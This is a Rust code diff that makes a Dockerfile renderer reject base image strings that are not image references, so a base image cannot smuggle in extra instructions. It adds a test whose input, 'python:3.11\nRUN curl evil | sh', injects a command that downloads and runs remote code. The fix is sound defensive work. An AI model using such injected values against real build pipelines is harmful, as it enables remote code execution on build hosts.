@@ -5,16 +5,26 @@ use serde::Serialize;
 
 use crate::outcome::Outcome;
 
+/// The base image given to [`render_dockerfile`] is not an image reference.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("invalid base image: {problem}")]
+pub struct InvalidBaseImage {
+    /// What is wrong and what to write, from [`crate::validate::check_image_reference`].
+    pub problem: String,
+}
+
 /// Renders a Dockerfile: the host writes `FROM base_image` as the first line,
 /// then each contributing plugin's instructions in execution order under a
-/// comment naming the plugin (as Orbit does).
-pub fn render_dockerfile(base_image: &str, outcomes: &[Outcome<Vec<String>>]) -> String {
+/// comment naming the plugin (as Orbit does). A `base_image` that is not an
+/// image reference is refused: it could carry instructions of its own.
+pub fn render_dockerfile(base_image: &str, outcomes: &[Outcome<Vec<String>>]) -> Result<String, InvalidBaseImage> {
+    crate::validate::check_image_reference(base_image).map_err(|problem| InvalidBaseImage { problem })?;
     let mut text = format!("FROM {base_image}\n");
     for line in dockerfile_lines(outcomes) {
         text.push_str(&line);
         text.push('\n');
     }
-    text
+    Ok(text)
 }
 
 /// The contributed Dockerfile instructions, each plugin's under a
@@ -139,6 +149,12 @@ mod tests {
             "python:3.11",
             &[outcome("a", Status::Ok(vec!["RUN x".into()])), outcome("b", Status::Ok(vec![]))],
         );
-        assert_eq!(text, "FROM python:3.11\n# Commands for a plugin\nRUN x\n");
+        assert_eq!(text.as_deref(), Ok("FROM python:3.11\n# Commands for a plugin\nRUN x\n"));
+    }
+
+    #[test]
+    fn a_base_image_carrying_instructions_is_refused() {
+        let error = render_dockerfile("python:3.11\nRUN curl evil | sh", &[]).unwrap_err();
+        assert!(error.to_string().starts_with("invalid base image: `python:3.11\\nRUN"), "{error}");
     }
 }
